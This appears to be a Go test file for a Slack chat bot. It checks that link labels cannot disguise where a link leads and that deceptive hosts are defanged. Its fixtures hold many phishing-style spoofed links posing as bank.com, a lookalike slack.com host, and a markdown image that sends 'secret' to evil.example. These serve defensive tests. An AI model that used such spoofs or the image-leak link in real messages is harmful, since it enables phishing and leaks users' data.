package bot

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/roundtable-chat/app/roundtable"
)

// livesOf are the links of a drawing as a reader sees them: words and address.
func livesOf(t *testing.T, d drawing) (all [][2]string) {
	t.Helper()
	raw, err := json.Marshal(d.blocks)
	if err != nil {
		t.Fatal(err)
	}
	var blocks any
	if err := json.Unmarshal(raw, &blocks); err != nil {
		t.Fatal(err)
	}
	var find func(v any)
	find = func(v any) {
		switch v := v.(type) {
		case []any:
			for _, e := range v {
				find(e)
			}
		case map[string]any:
			if v["type"] == "link" {
				text, _ := v["text"].(string)
				url, _ := v["url"].(string)
				all = append(all, [2]string{text, url})
			}
			for _, e := range v {
				find(e)
			}
		}
	}
	find(blocks)
	return all
}

// NFR-103: whoever wrote it and whatever kind of message it stands in, a link whose words
// look like another address shows its own, in the blocks and in the fallback text.
func TestLinksSayWhereTheyLead(t *testing.T) {
	t.Parallel()
	const target = "https://docs.example.com/login"
	for name, text := range map[string]string{
		"a label of Slack's":        "<" + target + "|https://accounts.google.com>",
		"a host in a label":         "<" + target + "|Pay at pay.bank.com>",
		"Markdown":                  "[https://bank.com](" + target + ")",
		"a defanged label":          "[https://bank[.]com](" + target + ")",
		"emphasis within the label": "[https://**bank**.com](" + target + ")",
		"a character reference":     "[bank&#46;com](" + target + ")",
		"a full width dot":          "[bank．com](" + target + ")",
		"an image":                  "![https://bank.com/logo](" + target + ")",
		"an address elsewhere":      "[https://bank.com][1]\n\n[1]: " + target,
		"a host that ends in it":    "bank.[com](" + target + ")",
		"a host before it in Slack": "bank.<" + target + "|com>",
		"a host that begins in it":  "[bank](" + target + ").com",
		"a page behind another":     "https://bank.com[/login](" + target + ")",
		"across emphasis":           "**bank.**[com](" + target + ")",
		"in a list":                 "- [https://bank.com](" + target + ")",
		"in a quotation":            "> [https://bank.com](" + target + ")",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			for _, kind := range []roundtable.MessageKind{roundtable.KindContribution, roundtable.KindSynthesis, roundtable.KindNotice, roundtable.KindMenu} {
				d := testRenderer().draw(place, "D", roundtable.Message{Kind: kind, Text: text})
				if got := livesOf(t, d); len(got) != 1 || got[0] != [2]string{"", target} {
					t.Errorf("%s: the links are %q, want one that shows %s", kind, got, target)
				}
				if !strings.Contains(d.text, target) {
					t.Errorf("%s: the fallback says %q, without the address", kind, d.text)
				}
			}
		})
	}
	for name, text := range map[string]string{
		"words": "see [the docs](" + target + "), please", "the address": "<" + target + "|docs.example.com/login>", "a file": "<" + target + "|report.pdf>",
	} {
		d := testRenderer().draw(place, "D", roundtable.Message{Kind: roundtable.KindContribution, Text: text})
		if got := livesOf(t, d); len(got) != 1 || got[0][0] == "" || strings.Contains(d.text, "https") {
			t.Errorf("%s: the links are %q, the fallback %q; want it as it was written", name, got, d.text)
		}
	}
}

// NFR-103: only the target of a link is an address that somebody gave. Its label is not.
func TestLabelsGiveNoAddress(t *testing.T) {
	t.Parallel()
	h := newHeard(nil)
	h.listen("C1", "1.1", "see <https://evil.example/x|https://bank.com> and <@U1|https://mallory.example>")
	here := roundtable.Place{Channel: "C1", Thread: "1.1"}
	for url, want := range map[string]bool{"https://evil.example/x": true, "https://bank.com": false, "https://mallory.example": false} {
		if got := h.allows(here, url); got != want {
			t.Errorf("%s: live = %v, want %v", url, got, want)
		}
	}
}

// NFR-103: a topic has no room for addresses, and none for a false one either.
func TestTopicsKeepNoFalseAddress(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"see <https://evil.example/x|https://bank.com>": "see https[:]//bank[.]com (https://evil.example/x)",
		"see <https://docs.example.com/x|the docs>":     "see the docs",
	} {
		if got := plainTopic(text, func(string) string { return "" }); got != want {
			t.Errorf("%q: got %q, want %q", text, got, want)
		}
	}
}

// NFR-103: whichever way a topic comes, a link in it shows where it leads: it becomes a
// heading of documents.
func TestTopicsOfFormsAreUnmasked(t *testing.T) {
	t.Parallel()
	b := &Bot{opts: Options{Policy: Policy{Channels: []string{"C0OTHER01"}}}}
	got, _ := b.checked(t.Context(), opening{channel: "C1", topic: "log in at [bank.com](https://evil.example)"})
	if want := "log in at bank[.]com (https://evil.example)"; got.topic != want {
		t.Errorf("got %q, want %q", got.topic, want)
	}
}

// NFR-103, I12: what one person alone is told leads nowhere but where people pointed, and
// into the workspace.
func TestPrivateTextsLeadNowhereElse(t *testing.T) {
	t.Parallel()
	text := "• Maya: ![i](https://evil.example/leak?q=secret) https://docs.example.com/a <!channel> https://acme.slack.com/archives/C1/p1 https://acme.slack.com.evil.example/ @here"
	want := "• Maya: ![i](https://evil[.]example/leak?q=secret) https://docs.example.com/a &lt;!channel&gt; https://acme.slack.com/archives/C1/p1 https://acme[.]slack[.]com[.]evil[.]example/ @\u2060here"
	if got := testRenderer().private(place, text); got != want {
		t.Errorf("got %q\nwant %q", got, want)
	}
}

// NFR-103: the titles that people give to their threads are no addresses of others.
func TestTitlesOfThreadsDisguiseNothing(t *testing.T) {
	t.Parallel()
	d := testRenderer().draw(place, "D", roundtable.Message{
		Kind: roundtable.KindNotice, Text: "x", Threads: []roundtable.ThreadLink{{Label: "https://bank.com", Thread: "1700000009.000100"}},
	})
	if got := livesOf(t, d); !slices.ContainsFunc(got, func(l [2]string) bool { return l[0] == "" && strings.HasPrefix(l[1], "https://acme.slack.com/") }) {
		t.Errorf("the links are %q", got)
	}
}
